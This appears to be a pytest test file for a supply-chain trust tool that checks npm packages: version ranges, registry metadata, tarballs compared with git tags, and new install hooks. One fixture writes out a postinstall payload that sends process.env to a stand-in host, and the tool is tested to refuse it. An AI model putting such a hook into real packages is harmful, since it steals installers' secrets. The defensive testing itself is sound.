"""Packages: documents, versions and ranges, manifests, start-up code, and what of a tarball its tag explains."""

from __future__ import annotations

import json
import shutil
import subprocess
from collections.abc import Mapping
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

import supplytrust
from simulators.packages import Past, manifest, packed, registry
from simulators.repository import day
from supplytrust.ecosystems.npm import packument
from supplytrust.ecosystems.npm.ecosystem import ECOSYSTEM
from supplytrust.ecosystems.npm.manifest import is_elsewhere, manifest_of, split_alias
from supplytrust.ecosystems.npm.packument import registry_base
from supplytrust.ecosystems.npm.releases import purl_of
from supplytrust.ecosystems.npm.versions import read_range, read_version, satisfies
from supplytrust.ecosystems.plausible_times import plausible_times
from supplytrust.errors import InvalidSubjectError, MalformedError, NothingToAssessError
from supplytrust.model.policy import Settings
from supplytrust.model.record import TrustRecord
from supplytrust.model.subject import Artifact, ArtifactKind

HEX = "ab" * 64
SRI = "sha512-q6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urq6urqw=="


# --- versions and ranges


@pytest.mark.parametrize(
    ("requirement", "inside", "outside"),
    [
        ("^1.2.3", "1.9.0", "2.0.0"),
        ("^0.2.3", "0.2.9", "0.3.0"),
        ("^0.0.3", "0.0.3", "0.0.4"),
        ("~1.2", "1.2.9", "1.3.0"),
        ("1.x", "1.9.9", "2.0.0"),
        ("", "7.1.0", "7.1.0-rc.1"),
        ("1.2.3", "1.2.3+build", "1.2.4"),
        ("1.2 - 2.3", "2.3.9", "2.4.0"),
        (">=1.0.0 <1.5.0 || >2", "3.0.0", "1.5.0"),
        ("^1.2.3-beta.2", "1.2.3-beta.4", "1.2.4-beta.2"),
        ("<2", "1.9.9", "2.0.0-alpha"),
        ("> 1.2", "1.3.0", "1.2.9"),
        ("v1.2.3", "1.2.3", "1.2.4"),
    ],
)
def test_ranges_are_the_clients(requirement: str, inside: str, outside: str) -> None:
    assert satisfies(requirement, inside)
    assert not satisfies(requirement, outside)


@pytest.mark.parametrize(
    "text", ["latest", ">", "1.2.3.4", "01.2.3", "^a", "1.x.3", ">=1.2.3 ||| 2", "git+https://x", "x" * 2000]
)
def test_what_is_no_range_is_refused(text: str) -> None:
    with pytest.raises(ValueError, match=r"range"):
        satisfies(text, "1.2.3")


_number = some.sampled_from(["0", "1", "2", "3", "10"])
_pre = some.sampled_from(["", "", "-0", "-alpha", "-alpha.1", "-rc.1", "-1"])
_version = some.builds(lambda a, b, c, p: f"{a}.{b}.{c}{p}", _number, _number, _number, _pre)
_partial = some.one_of(
    _version, _number, some.builds(lambda a, b: f"{a}.{b}", _number, _number), some.sampled_from(["*", "1.x", "2.1.x"])
)
_comparator = some.builds(lambda o, p: o + p, some.sampled_from(["", "^", "~", ">", ">=", "<", "<=", "= "]), _partial)
_range = some.lists(
    some.one_of(_comparator, some.builds(lambda a, b: f"{a} - {b}", _partial, _partial)), min_size=1, max_size=3
).map(" || ".join)


@pytest.mark.skipif(shutil.which("node") is None, reason="node is not here")
@pytest.mark.thorough
def test_ranges_against_the_clients_own_program() -> None:
    import random

    root = subprocess.run(["npm", "root", "-g"], capture_output=True, text=True, check=True).stdout.strip()  # noqa: S607
    oracle = Path(root) / "npm" / "node_modules" / "semver"
    if not oracle.is_dir():
        pytest.skip("the client brings no semver")
    chance = random.Random(20261129)
    numbers, tails = ("0", "1", "2", "3", "10"), ("", "", "-0", "-alpha", "-alpha.1", "-beta.2", "-rc.1", "-1")

    def version() -> str:
        return ".".join(chance.choice(numbers) for _ in range(3)) + chance.choice(tails)

    def partial() -> str:
        short = [
            "*",
            chance.choice(numbers),
            f"{chance.choice(numbers)}.{chance.choice(numbers)}",
            "1.x",
            "2.1.*",
            "=1.2.3",
            "1.x.2",
        ]
        return chance.choice([version(), version(), chance.choice(short)])

    def one() -> str:
        if chance.random() < 0.2:
            return f"{partial()} - {partial()}"
        signs = ("", "^", "~", ">", ">=", "<", "<=", "=", "^ ")
        return " ".join(chance.choice(signs) + partial() for _ in range(chance.choice((1, 1, 2))))

    asked = [(" || ".join(one() for _ in range(chance.choice((1, 1, 2)))), version()) for _ in range(20_000)]
    code = (
        "const s=require(process.argv[1]);const c=JSON.parse(require('fs').readFileSync(0));"
        "console.log(JSON.stringify(c.map(([r,v])=>{try{new s.Range(r)}catch(e){return null};return s.satisfies(v,r)})))"
    )
    told = subprocess.run(
        ["node", "-e", code, str(oracle)], input=json.dumps(asked), capture_output=True, text=True, check=True
    )  # noqa: S607
    wrong = []
    for (text, number), expected in zip(asked, json.loads(told.stdout), strict=True):
        try:
            ours: bool | None = satisfies(text, number)
        except ValueError:
            ours = None
        if ours is not expected:
            wrong.append((text, number, expected, ours))
    assert wrong == []


@given(_range, _version)
def test_a_range_holds_what_one_of_its_parts_holds(text: str, version: str) -> None:
    if () not in read_range(text):  # beside `*` nothing else counts
        assert satisfies(text, version) == any(satisfies(part, version) for part in text.split(" || "))


def test_versions_are_strict() -> None:
    assert read_version("1.2.3-a.1+b") == (1, 2, 3, "a.1")
    for text in ("1.2", "01.2.3", "1.2.3-01", "99999999999999999.0.0", "", "1.2.3 4"):
        assert read_version(text) is None


# --- documents


def document(*versions: Mapping[str, object], name: str = "demo", **more: object) -> bytes:
    listed = {str(v["version"]): {"name": name, "dist": {"integrity": SRI}, **v} for v in versions}
    return json.dumps({"name": name, "versions": listed, **more}).encode()


def times(count: int, *, swapped: int = 0, major: int = 1) -> dict[str, str]:
    stamps = [day(n) for n in range(count)]
    for n in range(swapped):
        stamps[2 * n], stamps[2 * n + 1] = stamps[2 * n + 1], stamps[2 * n]
    return {f"{major}.{n}.0": f"{at:%Y-%m-%dT%H:%M:%SZ}" for n, at in enumerate(stamps)}


def test_one_bad_version_never_costs_the_others() -> None:
    read = packument.read_packument(
        document(
            {"version": "1.0.0"},
            {"version": "x"},
            {"version": "1.1.0", "scripts": []},
            {"version": "1.2.0", "scripts": 1},
        ),
        "demo",
    )
    assert ([one.version for one in read.releases], read.skipped) == (["1.0.0", "1.1.0"], 2)
    assert read.releases[0].sha512 == HEX


@pytest.mark.parametrize(
    "body", [b"", b"[]", b"{}", b'{"name": "other", "versions": {"1.0.0": {}}}', b'{"versions": {"x": {}}}']
)
def test_what_is_no_document_is_refused(body: bytes) -> None:
    with pytest.raises(MalformedError):
        packument.read_packument(body, "demo")


def test_times_out_of_order_are_not_believed() -> None:
    versions = [{"version": f"1.{n}.0"} for n in range(20)]
    good = packument.read_packument(document(*versions, time=times(20, swapped=0)), "demo")
    bad = packument.read_packument(document(*versions, time=times(20, swapped=4)), "demo")
    assert (good.believable, bad.believable) == (True, False)
    assert [one.published for one in bad.releases] == [None] * 20
    few = packument.read_packument(document(*versions[:5], time=times(5, swapped=2)), "demo")
    assert few.believable  # too few to say


@given(some.lists(some.tuples(some.integers(0, 3), some.integers(0, 5), some.integers(0, 9)), unique=True, max_size=40))
def test_releases_in_the_order_of_their_versions_are_plausible(numbers: list[tuple[int, int, int]]) -> None:
    ordered = [".".join(map(str, version)) for version in sorted(numbers)]
    assert plausible_times((text, day(n)) for n, text in enumerate(ordered))


def test_attestations_are_unknown_where_the_registry_says_of_no_version() -> None:
    plain = packument.read_packument(document({"version": "1.0.0"}, {"version": "1.1.0"}), "demo")
    assert [one.attested for one in plain.releases] == [None, None]
    dist = {"integrity": SRI, "attestations": {"url": "https://registry.example.org/a", "provenance": {}}}
    some_of = packument.read_packument(document({"version": "1.0.0", "dist": dist}, {"version": "1.1.0"}), "demo")
    assert [one.attested for one in some_of.releases] == [True, False]


def test_withdrawn_versions_are_remembered_by_their_time() -> None:
    read = packument.read_packument(document({"version": "1.0.0"}, time={**times(3), "created": "x"}), "demo")
    assert read.withdrawn == ("1.1.0", "1.2.0")


# --- names, aliases, addresses


def test_names_scopes_and_purls() -> None:
    assert purl_of("@scope/name", "1.0.0") == "pkg:npm/%40scope/name@1.0.0"
    assert ECOSYSTEM.canonical_name("JSONStream") == "JSONStream"
    for name in ("", "a b", "@scope", "@scope/", "../x", ".hidden", "a/b", "x" * 300):
        with pytest.raises(InvalidSubjectError):
            ECOSYSTEM.canonical_name(name)
    assert split_alias("x", "npm:@scope/other@^1") == ("@scope/other", "^1")
    assert split_alias("x", "npm:other") == ("other", "*")


@pytest.mark.parametrize(
    "text", ["git+ssh://x/y", "github:a/b", "a/b#c", "https://x/y.tgz", "file:../x", "git@host:a/b"]
)
def test_places_are_told_from_versions(text: str) -> None:
    assert is_elsewhere(text)
    assert not any(
        is_elsewhere(plain) for plain in ("^1.2.3", ">=1 <2", "npm:other@1", "latest", "workspace:*", "1.x || 2")
    )


@pytest.mark.parametrize(
    ("stated", "address"),
    [
        ("owner/name", "https://github.com/owner/name"),
        ("github:owner/na.me.git", "https://github.com/owner/na.me"),
        ("gitlab:owner/name#main", "https://gitlab.com/owner/name"),
        ({"type": "git", "url": "owner/name"}, "https://github.com/owner/name"),
        ("git+https://forge.example.org/a/b.git", "git+https://forge.example.org/a/b.git"),
        ("a/b/c", "a/b/c"),
        ("", ""),
        (7, ""),
    ],
)
def test_short_addresses_of_repositories_are_written_out(stated: object, address: str) -> None:
    assert manifest_of({"name": "x", "version": "1.0.0", "repository": stated}).repository == address


def test_the_same_bytes_twice_are_one_file() -> None:
    def problems(other: bytes) -> tuple[str, ...]:
        body = packed({"a.js": "1", "./a.js": other, "package.json": "{}"})
        return ECOSYSTEM.read_artifact(Artifact("x-1.0.0.tgz", "", ArtifactKind.BUILT), body).problems

    assert problems(b"1") == ()
    assert [problem.partition(":")[0] for problem in problems(b"2")] == ["duplicate-member"]


def test_registry_comes_from_the_clients_configuration(tmp_path: Path) -> None:
    rc = tmp_path / ".npmrc"
    rc.write_text(
        "registry=https://r.example.org/main\n@own:registry = ${WHERE}/own/\n//r.example.org/:_authToken=secret\n"
    )
    env = {"HOME": str(tmp_path), "WHERE": "https://w.example.org"}
    assert registry_base(Settings(), env, name="x") == "https://r.example.org/main/"
    assert registry_base(Settings(), env, name="@own/x") == "https://w.example.org/own/"
    assert (
        registry_base(Settings(), {**env, "npm_config_registry": "https://e.example.org"}) == "https://e.example.org/"
    )
    assert registry_base(Settings(index={"npm": "http://127.0.0.1:1/"}), env) == "http://127.0.0.1:1/"


def test_a_manifest_that_hides_its_tables_is_none() -> None:
    for key in ("dependencies", "scripts", "optionalDependencies"):
        with pytest.raises(MalformedError):
            manifest_of({"name": "x", key: ["y"]})


# --- judged end to end


def past_of(name: str = "demo-package", folder: str = "", count: int = 12, **fields: object) -> Past:
    past = Past(name, folder)
    for n in range(count):
        past.release(f"1.{n}.0", day(30 * n), {"lib/a.js": f"exports.a = {n}\n"}, **fields)
    return past


def judge(tmp_path: Path, past: Past, *others: Past, subject: str = "", **options: object) -> TrustRecord:
    past.build(tmp_path / "repo")
    config = tmp_path / "supplytrust.toml"
    (tmp_path / "osv").mkdir(exist_ok=True)
    latest = max(one.at for one in past.releases if one.at) + timedelta(days=10)
    given: dict[str, object] = {"ledger": None, "deps": "none", "at": latest}
    with registry([past, *others]) as running:
        config.write_text(f'[index]\nnpm = "{running.url}"\n[advisories]\nosv = "osv"\n')
        return supplytrust.assess(
            subject or purl_of(past.name), config=config, repository=str(tmp_path / "repo"), **(given | options)
        )  # type: ignore[arg-type]


def findings(record: TrustRecord) -> dict[str, str]:
    return {f.signal: f.status.value for area in record.areas.values() for f in area.findings}


def test_a_package_of_its_tag_is_explained(tmp_path: Path) -> None:
    record = judge(tmp_path, past_of("@scope/demo", count=3))
    assert record.trustee.purl == "pkg:npm/%40scope/demo@1.2.0"
    assert len(record.trustee.artifacts[0].sha256) == 64
    told = findings(record)
    for signal in (
        "artifact_matches_source_tree",
        "metadata_agrees_with_index",
        "tag_on_branch",
        "no_new_startup_hook",
        "digest_matches_index",
    ):
        assert told[f"integrity/{signal}"] == "supports", signal
    assert told["responsiveness/past_cooldown"] == "supports"
    assert record.outcome.name != "REFUSE"


@pytest.mark.thorough
def test_a_package_of_a_folder_is_found_by_its_name(tmp_path: Path) -> None:
    record = judge(tmp_path, past_of(folder="packages/demo"))
    assert findings(record)["integrity/artifact_matches_source_tree"] == "supports"


@pytest.mark.thorough
def test_of_several_tags_of_a_version_the_best_is_compared(tmp_path: Path) -> None:
    past = past_of()
    past.repository.commit(
        past.author,
        day(390),
        {"src/main.js": "exports.main = 1\n", "package.json": json.dumps(manifest(past.name, "2.0.0"))},
        "2.0.0",
    )
    past.repository.tag("2.0.0", past.author, day(390))
    past.release("2.0.0", day(391), {"built.js": "exports.built = 1\n"}, tag="2.0.0-npm")
    record = judge(tmp_path, past)
    text = {f.signal: f.because for area in record.areas.values() for f in area.findings}
    assert "2.0.0-npm" in text["integrity/artifact_matches_source_tree"]
    assert findings(record)["integrity/artifact_matches_source_tree"] == "supports"


CHANGED = {
    "a file that the tag lacks": {"extra": {"bundle.js": "void 0\n" * 50}},
    "a file that differs": {"extra": {"lib/a.js": "exports.a = 0\n"}},
    "an install script of the tarball": {"changed": {"scripts": {"postinstall": "node lib/a.js"}}},
    "a dependency of the tarball": {"changed": {"dependencies": {"other": "^1.0.0"}}},
    "another entry point": {"changed": {"main": "lib/a.js"}},
}


@pytest.mark.thorough
@pytest.mark.parametrize("change", CHANGED.values(), ids=CHANGED)
def test_what_the_tag_does_not_have_is_never_explained(tmp_path: Path, change: dict[str, dict[str, object]]) -> None:
    past = past_of()
    past.release("1.12.0", day(400), {"lib/a.js": "exports.a = 12\n"}, **change)  # type: ignore[arg-type]
    record = judge(tmp_path, past)
    assert findings(record)["integrity/artifact_matches_source_tree"] != "supports"
    assert record.outcome.name != "ADMIT"


@pytest.mark.thorough
def test_what_pack_tools_take_out_is_explained(tmp_path: Path) -> None:
    past = past_of()
    fields = {"devDependencies": {"tap": "1"}, "scripts": {"test": "tap"}, "tap": {"x": 1}}
    past.release(
        "1.12.0",
        day(400),
        {"lib/a.js": "exports.a = 12\n"},
        changed={"devDependencies": {}, "scripts": {}, "tap": {}},
        **fields,
    )
    assert findings(judge(tmp_path, past))["integrity/artifact_matches_source_tree"] == "supports"


@pytest.mark.thorough
def test_a_document_that_shows_less_than_the_tarball_is_noticed(tmp_path: Path) -> None:
    past = past_of()
    past.release(
        "1.12.0",
        day(400),
        told={"dependencies": {}, "scripts": {}},
        scripts={"postinstall": "node x"},
        dependencies={"evil": "1"},
    )
    assert findings(judge(tmp_path, past))["integrity/metadata_agrees_with_index"] == "not_observed"


HOOKS: dict[str, dict[str, object]] = {
    "postinstall": {"scripts": {"postinstall": "node lib/a.js"}},
    "implicit native build": {"files": {"binding.gyp": "{}"}},
    "prepare of a git dependency": {"optionalDependencies": {"setup": "github:other/setup#abc"}},
    "a command of another name": {"bin": {"node": "index.js"}},
}


@pytest.mark.thorough
@pytest.mark.parametrize("change", HOOKS.values(), ids=HOOKS)
def test_new_start_up_code_is_noticed(tmp_path: Path, change: dict[str, object]) -> None:
    past, more = past_of(), dict(change)
    files: Mapping[str, str] = more.pop("files", {})  # type: ignore[assignment]
    past.release("1.12.0", day(400), {"lib/a.js": "exports.a = 12\n", **files}, **more)  # type: ignore[arg-type]
    assert findings(judge(tmp_path, past))["integrity/no_new_startup_hook"] == "not_observed"


@pytest.mark.thorough
def test_new_start_up_code_that_no_installation_needs_refuses(tmp_path: Path) -> None:
    past, sent = past_of(), "require('https').get('https://collect.example.invalid/' + JSON.stringify(process.env))"
    past.release("1.12.0", day(400), {"lib/a.js": sent}, scripts={"postinstall": "node lib/a.js"})
    record = judge(tmp_path, past)
    assert findings(record)["integrity/no_new_startup_hook"] == "opposes"
    assert record.outcome.name == "REFUSE"


@pytest.mark.thorough
def test_false_times_end_no_cooldown(tmp_path: Path) -> None:
    past = Past("demo-package")
    for n in range(20):
        past.release(f"1.{n}.0", day(30 * n if n % 3 else 30 * n + 100))
    told = findings(judge(tmp_path, past, at=datetime(2026, 1, 1, tzinfo=UTC)))
    assert told["responsiveness/past_cooldown"] == "not_observed"


@pytest.mark.thorough
def test_a_missing_release_is_nothing_to_assess(tmp_path: Path) -> None:
    for subject in ("pkg:npm/demo-package@9.9.9", "pkg:npm/other"):
        with pytest.raises(NothingToAssessError):
            judge(tmp_path / subject[-5:], past_of(), subject=subject)


def test_other_bytes_than_listed_are_refused(tmp_path: Path) -> None:
    past = past_of(count=2)
    past.release("1.12.0", day(400), told={"dist": {"integrity": SRI}})
    record = judge(tmp_path, past)
    assert findings(record)["integrity/digest_matches_index"] == "opposes"
    assert record.outcome.name == "REFUSE"


# --- built again


@pytest.mark.skipif(shutil.which("npm") is None, reason="the client is not here")
@pytest.mark.thorough
def test_a_package_is_packed_again_from_its_tag(tmp_path: Path) -> None:
    past = past_of()
    past.build(tmp_path / "first")
    files = {
        "index.js": "module.exports = 1\n",
        "lib/a.js": "exports.a = 12\n",
        "package.json": json.dumps(manifest(past.name, "1.12.0"), indent=2),
    }
    source = tmp_path / "source"
    for path, body in {**files, "README.md": f"# {past.name}\n"}.items():
        (source / path).parent.mkdir(parents=True, exist_ok=True)
        (source / path).write_text(body)
    argv = ["npm", "pack", "--ignore-scripts", "--offline", "--pack-destination", str(tmp_path), str(source)]
    subprocess.run(argv, check=True, capture_output=True, cwd=tmp_path)
    data = (tmp_path / f"{past.name}-1.12.0.tgz").read_bytes()
    made = past.release("1.12.0", day(400), {"lib/a.js": "exports.a = 12\n", "index.js": "module.exports = 1\n"})
    past.releases[-1] = replace(made, data=data)
    record = judge(tmp_path, past, rebuild="always")
    text = {f.signal: f.because for area in record.areas.values() for f in area.findings}
    assert findings(record)["build/rebuilt_from_tag"] == "supports", text["build/rebuilt_from_tag"]
    assert "bit-for-bit" in text["build/rebuilt_from_tag"]


@pytest.mark.skipif(shutil.which("npm") is None, reason="the client is not here")
@pytest.mark.thorough
@pytest.mark.parametrize("change", CHANGED.values(), ids=CHANGED)
def test_what_was_changed_after_packing_is_not_reproduced(tmp_path: Path, change: dict[str, dict[str, object]]) -> None:
    past = past_of()
    past.release("1.12.0", day(400), {"lib/a.js": "exports.a = 12\n"}, **change)  # type: ignore[arg-type]
    record = judge(tmp_path, past, rebuild="always")
    assert findings(record)["build/rebuilt_from_tag"] != "supports"


@pytest.mark.skipif(shutil.which("npm") is None, reason="the client is not here")
@pytest.mark.thorough
def test_scripts_of_the_tree_do_not_run_and_built_files_are_told(tmp_path: Path) -> None:
    past, marker = past_of(), tmp_path / "ran"
    scripts = dict.fromkeys(("prepare", "prepack", "postpack", "build"), f"touch {marker}")
    past.release("1.12.0", day(400), {"lib/a.js": "exports.a = 12\n"}, extra={"dist/a.js": "built\n"}, scripts=scripts)
    record = judge(tmp_path, past, rebuild="always")
    text = {f.signal: f.because for area in record.areas.values() for f in area.findings}
    assert findings(record)["build/rebuilt_from_tag"] == "not_observed"
    assert "needs-build" in text["build/rebuilt_from_tag"], text["build/rebuilt_from_tag"]
    assert not marker.exists()
